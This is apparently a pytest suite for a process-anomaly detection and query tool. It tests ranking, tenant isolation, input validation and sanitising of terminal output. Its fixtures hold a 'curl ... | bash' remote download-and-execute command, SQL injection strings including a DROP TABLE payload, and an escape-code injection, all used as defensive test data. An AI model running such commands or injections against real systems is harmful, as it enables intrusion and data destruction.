from __future__ import annotations

import json
import time
from pathlib import Path

import numpy as np
import pytest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue

from core.event import ProcessEvent
from otlp_receiver.component import LogBatch
from otlp_receiver.exporters.clickhouse.config import Config
from otlp_receiver.exporters.clickhouse.exporter import ClickHouseExporter
from otlp_receiver.query import cli
from otlp_receiver.query.render import triage_list
from otlp_receiver.query.service import QueryService
from scoring.featurizer import get_embedder
from testing import run_command
from testing.otlp_values import any_value

HOSTILE_WORKLOAD = "web' OR '1'='1"
NOW_NS = int(time.time() * 1e9)

# (workload, executable, command line, score, severity, reasons, ancestors, nearest)
EVENTS = [
    ("web", "bash", "curl -s http://203.0.113.9/x.sh | bash", 0.97, "alert",
     ["shell spawned by nginx", "downloads and runs a script"], ["sh", "nginx"], "nginx -g daemon off;"),
    ("web", "nginx", "nginx -g daemon off;", 0.02, "none", [], ["systemd"], "nginx -g daemon off;"),
    ("web", "nginx", "nginx -g daemon off;", 0.01, "none", [], ["systemd"], "nginx -g daemon off;"),
    ("ci", "python3", "python3 build_release.py --sign", 0.7, "warn", ["new on this workload"], ["make"], "make all"),
    (HOSTILE_WORKLOAD, "sh", "sh -c 'id; \x1b[2J'", 0.9, "alert", ["binary in /dev/shm"], [], ""),
]


def stored_batch(batch_id: str, tenant: str, events: list[tuple]) -> LogBatch:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    resource_logs.resource.attributes.append(KeyValue(key="host.name", value=AnyValue(string_value="host-1")))
    records = resource_logs.scope_logs.add().log_records
    process_events = []
    for i, (workload, exe, command, score, severity, reasons, ancestors, nearest) in enumerate(events):
        record = records.add()
        record.time_unix_nano = NOW_NS - i * 1000
        record.body.string_value = command
        for key, value in (("process.executable.name", AnyValue(string_value=exe)),
                           ("process.command_line", AnyValue(string_value=command)),
                           ("anomaly_score", AnyValue(double_value=score)),
                           ("anomaly_severity", AnyValue(string_value=severity)),
                           ("anomaly_workload", AnyValue(string_value=workload)),
                           ("anomaly_reasons", any_value(reasons)), ("process.ancestors", any_value(ancestors)),
                           ("anomaly_nearest", AnyValue(string_value=nearest)),
                           ("anomaly_model", AnyValue(string_value="hash128-v2"))):
            record.attributes.append(KeyValue(key=key, value=value))
        process_events.append(ProcessEvent(executable_name=exe, command_line=command))
    embeddings = get_embedder().embed(process_events)
    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id, embeddings=np.asarray(embeddings))


@pytest.fixture(scope="module")
def clickhouse_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("query") / "clickhouse"
    exporter = ClickHouseExporter(Config(endpoint=f"chdb://{path}", database="q"))
    exporter.start()
    try:
        exporter.export(stored_batch("1", "team-a", EVENTS))
        exporter.export(stored_batch("2", "team-b", [EVENTS[0]]))
    finally:
        exporter.shutdown()
    return path


@pytest.fixture
def service(clickhouse_dir: Path):
    query = QueryService.from_exporter_config(Config(endpoint=f"chdb://{clickhouse_dir}", database="q"), "hash128-v2")
    yield query
    query.close()


def test_search_ranks_the_nearest_event_first(service: QueryService) -> None:
    results = service.search("team-a", "curl bash", limit=3)
    top = results[0]
    assert top["command_line"].startswith("curl -s http://203.0.113.9")
    assert top["distance"] < results[1]["distance"]
    assert top["reasons"] == ["shell spawned by nginx", "downloads and runs a script"]
    assert top["ancestors"] == ["sh", "nginx"] and top["nearest"] == "nginx -g daemon off;"
    assert (top["severity"], top["workload"], top["host"], top["score"]) == ("alert", "web", "host-1", 0.97)
    assert top["time"].endswith("Z") and top["record_id"] == "1:0"


def test_search_shows_a_repeated_command_once(service: QueryService) -> None:
    results = service.search("team-a", "nginx daemon", limit=10)
    assert [r["command_line"] for r in results].count("nginx -g daemon off;") == 1
    assert len(results) == 4


def test_results_never_cross_tenants(service: QueryService) -> None:
    assert [r["record_id"] for r in service.search("team-b", "nginx", limit=10)] == ["2:0"]
    assert service.search("team-c", "curl bash") == []
    assert service.search("team-a' OR TenantId != '", "curl") == []


def test_workload_filter_binds_hostile_names(service: QueryService) -> None:
    results = service.search("team-a", "sh id", workload=HOSTILE_WORKLOAD)
    assert [r["workload"] for r in results] == [HOSTILE_WORKLOAD]
    assert service.anomalies("team-a", workload="ci")[0]["command_line"] == "python3 build_release.py --sign"
    assert service.search("team-a", "curl; DROP TABLE q.security_events --", workload="web")


def test_anomalies_are_ranked_and_filtered(service: QueryService) -> None:
    results = service.anomalies("team-a", since=time.time() - 3600, min_score=0.5)
    assert [r["score"] for r in results] == [0.97, 0.9, 0.7]
    assert service.anomalies("team-a", since=time.time() + 3600) == []
    assert len(service.anomalies("team-a", min_score=0.0, limit=2)) == 2


@pytest.mark.parametrize(("call", "message"), [
    (lambda s: s.search("t", "   "), "query"), (lambda s: s.search("t", "x" * 5000), "query"),
    (lambda s: s.search("t", "x", limit=0), "limit"), (lambda s: s.anomalies("t", limit=10_000), "limit"),
    (lambda s: s.anomalies("t", min_score=2.0), "min_score"),
])
def test_bad_requests_are_value_errors(service: QueryService, call, message: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ValueError, match=message):
        call(service)


def test_triage_list_colours_by_severity_and_neutralises_control_bytes(service: QueryService) -> None:
    results = service.anomalies("team-a", min_score=0.5)
    coloured = triage_list(results, color=True, title="Top")
    lines = coloured.splitlines()
    assert lines[1].startswith("\033[1;31m  1. 0.97 ALERT")
    assert any(line.startswith("\033[33m  3. 0.70 WARN") for line in lines)
    assert "why: shell spawned by nginx; downloads and runs a script" in coloured
    assert "lineage: bash <- sh <- nginx" in coloured and "nearest normal: nginx -g daemon off;" in coloured
    assert "\x1b[2J" not in coloured and "\\x1b[2J" in coloured
    plain = triage_list(results, color=False, title="Top")
    assert "\033[" not in plain.replace("\\x1b", "")
    below = triage_list(service.anomalies("team-a", min_score=0.0), color=True, title="All")
    assert "\033[37m" in below


def procsight(*argv: str) -> int:
    """The `procsight search` / `procsight top` commands, run in this process."""
    return run_command(cli.register, argv)


def test_cli_reads_clickhouse_directly(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    direct = ("--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q", "--tenant", "team-a")
    assert procsight("search", "curl bash", *direct, "--json", "--limit", "2") == 0
    results = json.loads(capsys.readouterr().out)["results"]
    assert len(results) == 2 and results[0]["record_id"] == "1:0"
    assert procsight("top", *direct, "--since", "1h", "--min-score", "0.8") == 0
    out = capsys.readouterr().out
    assert out.startswith("Top anomalies since 1h (score >= 0.8):\n  1. 0.97 ALERT web / host-1")
    assert "\033[" not in out  # not a terminal: no colour codes


def test_cli_explains_a_missing_receiver(capsys: pytest.CaptureFixture[str]) -> None:
    assert procsight("top", "--endpoint", "http://127.0.0.1:1") == 1
    assert "no receiver at http://127.0.0.1:1" in capsys.readouterr().err


def test_cli_rejects_a_bad_duration(clickhouse_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert procsight("top", "--clickhouse", f"chdb://{clickhouse_dir}", "--database", "q", "--since", "yesterday") == 1
    assert "--since" in capsys.readouterr().err
